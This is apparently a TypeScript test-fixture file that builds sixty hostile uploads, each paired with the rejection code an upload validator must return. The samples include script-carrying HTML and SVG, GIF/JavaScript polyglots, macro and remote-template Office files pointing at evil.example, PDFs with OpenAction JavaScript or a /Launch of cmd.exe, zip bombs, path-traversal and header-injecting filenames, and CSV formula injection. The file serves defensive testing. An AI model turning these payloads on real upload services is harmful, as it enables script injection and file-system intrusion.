import { docx, docxParts, exif, comment, jpeg, objectStream, odt, pdf, png, zip, type Part } from './file-maker.js';

/** One hostile file, and what must become of it: refused under a code, or kept harmless. */
export interface Hostile {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
  /** What the sender's browser claims it is. */
  readonly claims?: string;
  readonly becomes: 'FILE_KIND_UNKNOWN' | 'FILE_BROKEN' | 'FILE_RUNS' | 'FILE_PROTECTED' | 'FILE_UNPACKS_TOO_LARGE' | 'FILE_TOO_MANY_PIXELS' | 'FILE_TOO_LARGE' | 'FILE_EMPTY' | 'HARMLESS';
}

/** Sets `window.fired` wherever it runs; a test looks for that, and for these very words in what is kept. */
export const mark = 'globalThis.fired=1;document.title="fired"';
const html = `<!doctype html><html><body><script>${mark}</script><img src=x onerror='${mark}'></body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload='${mark}'><script>${mark}</script></svg>`;
/** The test file of antivirus makers (EICAR), in two halves so that this source is not taken for it. */
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD', '-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const part = (name: string, body: string | Buffer = 'x', more: Partial<Part> = {}): Part => ({ name, body, ...more });
const macroTypes = '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>';
const template = '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

const wrongKinds: Hostile[] = [
  { what: 'a web page', name: 'page.html', bytes: Buffer.from(html), claims: 'application/pdf', becomes: 'FILE_KIND_UNKNOWN' },
  { what: 'a drawing that runs', name: 'logo.svg', bytes: Buffer.from(svg), claims: 'image/png', becomes: 'FILE_KIND_UNKNOWN' },
  { what: 'a drawing under a picture’s name', name: 'logo.png', bytes: Buffer.from(svg), claims: 'image/png', becomes: 'FILE_BROKEN' },
  { what: 'a web page under a PDF’s name', name: 'budget.pdf', bytes: Buffer.from(html), claims: 'application/pdf', becomes: 'FILE_BROKEN' },
  { what: 'a web page under a text’s name', name: 'notes.txt', bytes: Buffer.from(html), claims: 'text/html', becomes: 'FILE_BROKEN' },
  { what: 'a web page under a table’s name, behind a mark of order', name: 'liste.csv', bytes: Buffer.from(`\ufeff  ${html}`), claims: 'text/html', becomes: 'FILE_BROKEN' },
  { what: 'a picture that is also a script', name: 'photo.gif', bytes: Buffer.from(`GIF89a/*${'\0'.repeat(8)}*/=1;${mark}`, 'latin1'), becomes: 'FILE_KIND_UNKNOWN' },
  { what: 'the same under a picture’s name', name: 'photo.jpg', bytes: Buffer.from(`GIF89a/*xx*/=1;${mark}`), becomes: 'FILE_BROKEN' },
  { what: 'a script', name: 'outil.js', bytes: Buffer.from(mark), becomes: 'FILE_KIND_UNKNOWN' },
  { what: 'a program', name: 'outil.exe', bytes: Buffer.from('MZ\x90\0\x03', 'latin1'), becomes: 'FILE_KIND_UNKNOWN' },
  { what: 'a program under a PDF’s name', name: 'facture.pdf', bytes: Buffer.from('MZ\x90\0\x03', 'latin1'), becomes: 'FILE_BROKEN' },
  { what: 'two extensions, a program last', name: 'facture.pdf.exe', bytes: pdf(), claims: 'application/pdf', becomes: 'FILE_KIND_UNKNOWN' },
  { what: 'two extensions, a web page last', name: 'facture.pdf.html', bytes: pdf(), claims: 'application/pdf', becomes: 'FILE_KIND_UNKNOWN' },
  { what: 'an archive', name: 'tout.zip', bytes: zip([part('eicar.com', eicar)]), becomes: 'FILE_KIND_UNKNOWN' },
  { what: 'nothing at all', name: 'vide.pdf', bytes: Buffer.alloc(0), becomes: 'FILE_EMPTY' },
];

const office: Hostile[] = [
  { what: 'a letter with macros', name: 'lettre.docm', bytes: docx(part('word/vbaProject.bin')), becomes: 'FILE_KIND_UNKNOWN' },
  { what: 'the same under an honest name', name: 'lettre.docx', bytes: docx(part('word/vbaProject.bin')), becomes: 'FILE_RUNS' },
  { what: 'macros announced by their type', name: 'lettre.docx', bytes: zip(docxParts(macroTypes)), becomes: 'FILE_RUNS' },
  { what: 'a template fetched from elsewhere', name: 'lettre.docx', bytes: docx(part('word/_rels/settings.xml.rels', template)), becomes: 'FILE_RUNS' },
  { what: 'a program inside a letter', name: 'lettre.docx', bytes: docx(part('word/media/eicar.com', eicar)), becomes: 'FILE_RUNS' },
  { what: 'an object inside a letter', name: 'lettre.docx', bytes: docx(part('word/embeddings/oleObject1.bin')), becomes: 'FILE_RUNS' },
  { what: 'macros of an open document', name: 'lettre.odt', bytes: odt(part('Basic/Standard/Module1.xml')), becomes: 'FILE_RUNS' },
  { what: 'an archive under a letter’s name', name: 'lettre.docx', bytes: zip([part('lisez-moi.xml')]), becomes: 'FILE_BROKEN' },
  { what: 'a bomb that says its size', name: 'lettre.docx', bytes: docx(part('word/media/bomb.xml', Buffer.alloc(120_000_000))), becomes: 'FILE_UNPACKS_TOO_LARGE' },
  { what: 'a bomb that lies about its size', name: 'lettre.docx', bytes: docx(part('word/media/bomb.xml', Buffer.alloc(60_000_000), { says: 1_000 })), becomes: 'FILE_BROKEN' },
  { what: 'a bomb of shared bytes', name: 'lettre.docx', bytes: docx(...Array.from({ length: 50 }, (_, at) => part(`word/${at}.xml`, 'x', { sharing: true }))), becomes: 'FILE_BROKEN' },
  { what: 'three thousand parts', name: 'lettre.docx', bytes: docx(...Array.from({ length: 3_000 }, (_, at) => part(`word/${at}.xml`))), becomes: 'FILE_UNPACKS_TOO_LARGE' },
  { what: 'a part that leaves its folder', name: 'lettre.docx', bytes: docx(part('../../../etc/cron.d/x.xml')), becomes: 'FILE_BROKEN' },
  { what: 'a part with an absolute name', name: 'lettre.docx', bytes: docx(part('C:\\Windows\\x.xml')), becomes: 'FILE_BROKEN' },
  { what: 'two parts of one name', name: 'lettre.docx', bytes: docx(part('word/document.xml', '<other/>')), becomes: 'FILE_BROKEN' },
  { what: 'a part under a password', name: 'lettre.docx', bytes: docx(part('word/x.xml', 'x', { flags: 0x801 })), becomes: 'FILE_BROKEN' },
  { what: 'a web page in front of a letter', name: 'lettre.docx', bytes: zip(docxParts(), { before: html }), becomes: 'FILE_BROKEN' },
  { what: 'a letter cut in two', name: 'lettre.docx', bytes: docx().subarray(0, 300), becomes: 'FILE_BROKEN' },
];

const pdfs: Hostile[] = [
  { what: 'a PDF that runs a script', name: 'plan.pdf', bytes: pdf({ catalog: `/OpenAction ${script}` }), becomes: 'FILE_RUNS' },
  { what: 'the same in letters of its own', name: 'plan.pdf', bytes: pdf({ catalog: '/OpenAction << /S /J#61vaScript /JS (x) >>' }), becomes: 'FILE_RUNS' },
  { what: 'the same in packed objects', name: 'plan.pdf', bytes: pdf({ extra: objectStream(script) }), becomes: 'FILE_RUNS' },
  { what: 'packed objects in a code nobody uses', name: 'plan.pdf', bytes: pdf({ extra: objectStream(script, '[/ASCIIHexDecode /FlateDecode]') }), becomes: 'FILE_PROTECTED' },
  { what: 'a PDF that starts a program', name: 'plan.pdf', bytes: pdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), becomes: 'FILE_RUNS' },
  { what: 'a PDF with a file inside', name: 'plan.pdf', bytes: pdf({ catalog: '/Names << /EmbeddedFiles 5 0 R >>' }), becomes: 'FILE_RUNS' },
  { what: 'a PDF with a program inside, beside data', name: 'plan.pdf', bytes: pdf({ catalog: '/Names << /EmbeddedFiles 5 0 R >>', extra: '5 0 obj << /Type /Filespec /F (a.json) /UF <FEFF0061002E006500780065> >> endobj\n' }), becomes: 'FILE_RUNS' },
  { what: 'a PDF with a program inside under a name of its own', name: 'plan.pdf', bytes: pdf({ catalog: '/Names << /EmbeddedFiles 5 0 R >>', extra: '5 0 obj << /Type /Filespec /F (a.json) /UF (a.exe) >> endobj\n' }), becomes: 'FILE_RUNS' },
  { what: 'a script behind a comment that looks like data', name: 'plan.pdf', bytes: pdf({ extra: `% stream\n8 0 obj ${script} endobj\n% endstream\n` }), becomes: 'FILE_RUNS' },
  { what: 'a PDF under a password', name: 'plan.pdf', bytes: pdf({ extra: '9 0 obj << /Filter /Standard >> endobj /Encrypt 9 0 R' }), becomes: 'FILE_PROTECTED' },
  { what: 'a PDF that is also a web page, behind', name: 'plan.pdf', bytes: pdf({ tail: html }), becomes: 'FILE_BROKEN' },
  { what: 'a PDF that is also a web page, before', name: 'plan.pdf', bytes: Buffer.concat([Buffer.from(html), pdf()]), becomes: 'FILE_BROKEN' },
  { what: 'a PDF that is also a web page, within', name: 'plan.pdf', bytes: pdf({ extra: `%${html}\n` }), claims: 'text/html', becomes: 'HARMLESS' },
  { what: 'a PDF cut in two', name: 'plan.pdf', bytes: pdf().subarray(0, 150), becomes: 'FILE_BROKEN' },
];

const pictures: Hostile[] = [
  { what: 'a picture of 30,000 × 30,000 points', name: 'plan.png', bytes: png({ width: 30_000, height: 30_000 }), becomes: 'FILE_TOO_MANY_PIXELS' },
  { what: 'a photograph of 65,000 × 65,000 points', name: 'plan.jpg', bytes: jpeg({ width: 65_000, height: 65_000 }), becomes: 'FILE_TOO_MANY_PIXELS' },
  { what: 'a picture with a web page in its comments and behind it', name: 'plan.png', bytes: png({ more: [['tEXt', `Comment\0${html}`], ['iTXt', html]], tail: html }), claims: 'text/html', becomes: 'HARMLESS' },
  { what: 'a photograph with a web page in its comments and behind it, and a place', name: 'photo.jpg', bytes: jpeg({ before: [exif(6), comment(html)], tail: html }), claims: 'text/html', becomes: 'HARMLESS' },
  { what: 'a picture without points', name: 'plan.png', bytes: png({ idat: false }), becomes: 'FILE_BROKEN' },
  { what: 'a picture cut in two', name: 'plan.png', bytes: png().subarray(0, 50), becomes: 'FILE_BROKEN' },
  { what: 'a photograph cut in two', name: 'photo.jpeg', bytes: jpeg({ cut: 4 }), becomes: 'FILE_BROKEN' },
];

const names: Hostile[] = [
  { what: 'a name read backwards', name: 'facture\u202efdp.exe.pdf', bytes: pdf(), becomes: 'HARMLESS' },
  { what: 'a name of 255 bytes, right to left', name: `${'محضر'.repeat(31)}abc.pdf`, bytes: pdf(), becomes: 'HARMLESS' },
  { what: 'a name with an end in it', name: 'plan.html\0.pdf', bytes: pdf(), becomes: 'HARMLESS' },
  { what: 'a name that is a path', name: '../../../../etc/passwd.pdf', bytes: pdf(), becomes: 'HARMLESS' },
  { what: 'a name that ends its header', name: 'plan"; filename="x.html.pdf', bytes: pdf(), claims: 'text/html', becomes: 'HARMLESS' },
  { what: 'a name that is a tag', name: `<img src=x onerror=${mark}>.pdf`, bytes: pdf(), becomes: 'HARMLESS' },
  { what: 'a table whose cells are formulas', name: 'liste.csv', bytes: Buffer.from('=HYPERLINK("https://evil.example");@SUM(1)\r\n'), claims: 'text/html', becomes: 'HARMLESS' },
  { what: 'a text that is a script', name: 'notes.txt', bytes: Buffer.from(mark), claims: 'text/javascript', becomes: 'HARMLESS' },
];

/** Sixty hostile files, made here. */
export const hostileUploads: readonly Hostile[] = [...wrongKinds, ...office, ...pdfs, ...pictures, ...names];
